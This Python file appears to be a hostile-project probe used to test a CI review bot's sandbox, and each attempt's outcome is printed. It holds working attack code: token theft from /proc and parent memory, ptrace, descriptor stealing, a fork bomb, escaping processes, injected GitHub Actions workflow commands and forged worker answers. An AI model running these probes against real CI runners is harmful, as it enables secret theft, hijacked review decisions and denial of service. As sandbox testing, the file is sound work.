"""Everything that a hostile project would try. What came of it is printed, one line each.

`attack.json` beside it says what to forge and which places to attack; a real attacker would know
the places, because the runner's are the same everywhere.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PIDFD_GETFD = 0x4206, 438
MARK = "ci-bot-probe-grandchild"


def told(name: str, attempt: Callable[[], Any]) -> None:
    try:
        result = attempt()
    except Exception as error:  # whatever stops it
        print(f"PROBE {name}: stopped by {type(error).__name__}", flush=True)
        return
    print(f"PROBE {name}: {'SUCCEEDED' if result else 'found nothing'}", flush=True)


def append(path: Path) -> bool:
    with path.open("a") as file:
        return bool(file.write("LOOT=1\n"))


def environments(secret: str) -> bool:
    """The bot's own environment and memory, through the process table."""
    found = False
    for process in Path("/proc").iterdir():
        if process.name.isdecimal() and int(process.name) != os.getpid():
            for name in ("environ", "mem"):
                try:
                    with (process / name).open("rb") as file:
                        found = found or secret.encode() in file.read(100_000) or name == "mem"
                except OSError:
                    continue
    return found


def connect(path: str) -> bool:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
    return True


def grandchild() -> bool:
    """A process in a session of its own that survives its parents, if it may."""
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)", MARK],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    return False  # it is started; whether it outlives the run is for the test to see


def signal_bot() -> bool:
    os.kill(os.getppid(), signal.SIGUSR1)
    return True


def kernel(number: int) -> bool:
    """What a call of the kernel says; whatever it refuses is an OSError."""
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


class Vector(ctypes.Structure):
    """Where `process_vm_readv` reads and writes."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def memory_by_call() -> bool:
    """The bot's memory without the process table."""
    buffer = ctypes.create_string_buffer(8)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 8)
    there = Vector(0x400000, 8)
    return kernel(
        LIBC.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    )


def borrowed_files() -> bool:
    """A file that the bot has open, by a handle of its process."""
    handle = os.pidfd_open(os.getppid())
    return any(kernel(LIBC.syscall(PIDFD_GETFD, handle, number, 0)) for number in range(20))


def signal_by_pipe() -> bool:
    """The kernel sends a signal in our name once the log's pipe can be written to."""
    flags = fcntl.fcntl(1, fcntl.F_GETFL)
    fcntl.fcntl(1, fcntl.F_SETSIG, signal.SIGTERM)
    fcntl.fcntl(1, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(1, fcntl.F_SETFL, flags | os.O_ASYNC)
    os.write(1, b"\n")
    fcntl.fcntl(1, fcntl.F_SETFL, flags)
    return False  # whether the bot goes on is for the test to see


def comet() -> bool:
    """A process that only forks and ends, so that whoever wants to kill it comes too late."""
    if os.fork() == 0:
        os.setsid()
        while True:
            if os.fork():
                os._exit(0)
    return False  # whether it outlives the run is for the test to see


def storm() -> None:
    """Processes that wait, until there can be no more of them; the code that wants one more fails.

    Without its failure a review could go on, because it may need no process of its own.
    """
    try:
        while True:
            if os.fork() == 0:
                signal.pause()
    except OSError as error:
        print(f"PROBE storm: stopped by {type(error).__name__}", flush=True)
        raise


def commands() -> None:
    for line in (
        "::add-mask::evil",
        "text before ##[add-mask]evil",
        "##[set-output name=decision]evil",
        "::set-output name=decision::evil",
        "::stop-commands::evil",
        "\r::error::evil",
        "\u200b::error::evil",
        "::error file=a.sql,line=1::evil",
    ):
        print(line, flush=True)
        sys.stderr.write(line + "\n")
    sys.stderr.flush()


def forge(kind: str) -> None:
    """Answers in the worker's name through its own channel, and ends; or takes all processes."""
    if kind == "storm":
        storm()
        return
    answer = int(sys.argv[2])
    if kind == "oversize":
        for _ in range(40):
            os.write(answer, b" " * 1_048_576)
            time.sleep(0.001)
    else:
        os.write(answer, (HERE / "forged.json").read_bytes())
    os._exit(0)


def main() -> None:
    plan = json.loads((HERE / "attack.json").read_text("utf-8"))
    if HERE.name == "base":
        return  # the base branch's copy is loaded first; attack once
    for path in plan["write"]:
        told(f"write {path}", lambda it=path: append(Path(it)))
    for path in plan["read"]:
        told(f"read {path}", lambda it=path: Path(it).read_bytes())
    for path in plan["sockets"]:
        told(f"connect {path}", lambda it=path: connect(it))
    for path in plan["links"]:
        told(f"link {path}", lambda it=path: (HERE / it).read_bytes())
    secret = "".join(plan["secret"])
    told("token in the environment", lambda: secret in "".join(os.environ.values()))
    told(
        "names of the runner",
        lambda: [
            n
            for n in os.environ
            if n.startswith(("GITHUB_", "ACTIONS_", "INPUT_", "RUNNER_"))
            and n not in plan["dotenv"]
        ],
    )
    told("environment of the bot", lambda: environments(secret))
    told("planted cache", (HERE / ".cache").exists)
    told("git of the checkout", (HERE / ".git").exists)
    told("become root", lambda: os.setuid(0) is None)
    told("signal the bot", signal_bot)
    told("new privileges", lambda: ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) != 1)
    told("trace the bot", lambda: kernel(LIBC.ptrace(PTRACE_SEIZE, os.getppid(), 0, 0)))
    told("memory of the bot by a call", memory_by_call)
    told("open files of the bot", borrowed_files)
    told("signal by the pipe", signal_by_pipe)
    told("limits of the bot", lambda: os.sched_setaffinity(os.getppid(), {0}) is None)
    told("a mount of its own", lambda: kernel(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, 0)))
    told("a device", lambda: os.mknod("device", 0o666 | stat.S_IFBLK, os.makedev(8, 0)) is None)
    for path in plan["write"]:
        told(f"replace {path}", lambda it=path: bool(Path(it).rename(f"{it}.old")))
        told(f"hard link to {path}", lambda it=path: os.link(it, "linked.file") is None)
    told("grandchild", grandchild)
    told("comet", comet)
    commands()
    if plan.get("forge"):
        forge(plan["forge"])
    print("PROBE end", flush=True)
